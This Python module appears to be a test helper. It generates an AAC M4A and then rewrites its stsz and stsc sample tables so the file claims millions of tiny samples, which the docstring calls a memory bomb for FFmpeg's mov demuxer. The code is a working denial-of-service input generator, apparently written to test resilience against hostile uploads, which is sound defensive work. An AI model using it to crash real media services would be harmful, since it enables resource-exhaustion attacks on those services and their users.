"""An M4A whose sample tables claim millions of tiny samples (a memory bomb for FFmpeg's
mov demuxer): a real AAC M4A made with PyAV, its stsz replaced by a 4-bit stz2."""

import struct
from pathlib import Path

import av
import numpy as np

_CONTAINERS = {b"moov", b"trak", b"mdia", b"minf", b"stbl"}


def _parse(buf: bytes) -> list:
    boxes, i = [], 0
    while i + 8 <= len(buf):
        size, kind = struct.unpack(">I4s", buf[i:i + 8])
        body = buf[i + 8:i + size]
        boxes.append([kind, _parse(body) if kind in _CONTAINERS else body])
        i += size
    return boxes


def _build(boxes: list) -> bytes:
    out = b""
    for kind, body in boxes:
        payload = _build(body) if isinstance(body, list) else body
        out += struct.pack(">I4s", 8 + len(payload), kind) + payload
    return out


def _bloat(boxes: list, samples: int) -> None:
    for box in boxes:
        if isinstance(box[1], list):
            _bloat(box[1], samples)
    for k, (kind, _) in enumerate(boxes):
        if kind == b"stsz":
            boxes[k] = [b"stz2", bytes(7) + bytes([4]) + struct.pack(">I", samples) + b"\x11" * (samples // 2)]
        elif kind == b"stsc":
            boxes[k] = [b"stsc", bytes(4) + struct.pack(">IIII", 1, 1, samples, 1)]


def write_sample_table_bomb(path: Path, *, samples: int | None) -> Path:
    """The M4A (1 s of AAC, 44.1 kHz mono); with ``samples`` its tables claim that many."""
    with av.open(str(path), "w", format="mp4") as out:
        stream = out.add_stream("aac", rate=44100)
        stream.layout = "mono"
        t = np.arange(44 * 1024) / 44100
        tone = (0.5 * np.sin(2 * np.pi * 440 * t)).astype(np.float32)
        for i in range(44):
            frame = av.AudioFrame.from_ndarray(tone[None, i * 1024:(i + 1) * 1024].copy(), format="fltp",
                                               layout="mono")
            frame.sample_rate, frame.pts = 44100, i * 1024
            for packet in stream.encode(frame):
                out.mux(packet)
        for packet in stream.encode(None):
            out.mux(packet)
    if samples is not None:
        boxes = _parse(path.read_bytes())
        _bloat(boxes, samples)
        path.write_bytes(_build(boxes))
    return path
